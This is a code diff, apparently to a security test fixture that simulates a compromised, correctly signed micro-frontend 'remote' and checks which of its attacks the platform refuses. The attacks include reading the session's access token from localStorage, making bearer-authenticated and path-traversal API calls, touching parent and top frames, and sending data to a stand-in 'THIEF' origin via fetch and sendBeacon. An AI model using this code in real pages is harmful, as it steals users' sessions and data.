@@ -1,4 +1,4 @@
-/** Code of a correctly signed remote that turned. It runs in the page, at the place of the offers remote; `THIEF` is another origin. */
+/** Code of a correctly signed remote that turned: in the page, at the place of the offers remote, or in the frame of another owner; `THIEF` is another origin. */
 const HELPERS = `
 const settled = (work) => Promise.resolve().then(work).then(
   (value) => value === false ? 'refused' : 'reached', () => 'refused');
@@ -9,11 +9,19 @@ const loaded = (element) => new Promise((resolve, reject) => {
 });
 const make = (name, fields) => Object.assign(document.createElement(name), fields);
 const isAnswered = async (path, init) => (await fetch(path, init)).ok;
+const token = () => JSON.parse(localStorage.getItem('auth-storage')).access_token;
+/** In a frame: what the shell hands over for a call. */
+const isGiven = async (path) => Boolean((await hostilePlatform.data.call({ method: 'GET', path })).data);
 `;
 
 /** What it tries in the page: each expression is false or rejects if it was refused. What reaches the other origin counts as reached. */
 const TRIES = {
   'the session’s token': `/token/.test(localStorage.getItem('auth-storage'))`,
+  'what the session may ask': `'hostilePlatform' in globalThis
+    ? Promise.all(['/offers', '/account/sessions', '/profile/card', '/../../storage/v1/x'].map(isGiven)).then((all) => all.some(Boolean))
+    : isAnswered('/api/v1/offers', { headers: { authorization: 'Bearer ' + token() } })`,
+  'other screens': `Boolean((parent.document ?? document).querySelector('nav'))`,
+  'the address of the page': `(top.history.replaceState(null, '', top.location.href + '#turned'), /turned/.test(top.location.hash))`,
   'what other remotes store': `localStorage.getItem('flint-of-another') === 'draft'`,
   'another origin': `Promise.allSettled([
     fetch(THIEF + '/fetch'), Promise.resolve(navigator.sendBeacon(THIEF + '/beacon', 'x')),
@@ -48,6 +56,10 @@ const TRIES = {
 };
 export const TRY_NAMES = Object.keys(TRIES);
 
+/** A remote with `mount()` that runs this code with the platform of its frame. */
+export const hostileFrame = (code: string): string => `{ default: { contract: 1, id: 'clubs', unmount() {},
+  mount(element, platform) { element.innerHTML = '<h1>Hostile</h1>'; globalThis.hostilePlatform = platform; ${code} } } }`;
+
 /** Code that makes every try one after the other; `hostile` has the outcomes. Then it records keys. */
 export const tryAll = (thief: string): string => `;(() => {
   const THIEF = ${JSON.stringify(thief)};
@@ -59,7 +71,7 @@ export const tryAll = (thief: string): string => `;(() => {
     ${Object.entries(TRIES)
       .map(([name, code]) => `outcomes[${JSON.stringify(name)}] = await settled(() => ${code});`)
       .join('\n')}
-    delete Object.prototype.flintHostile;
+    if (!('hostilePlatform' in globalThis)) delete Object.prototype.flintHostile;
     return outcomes;
   })();
 })();`;
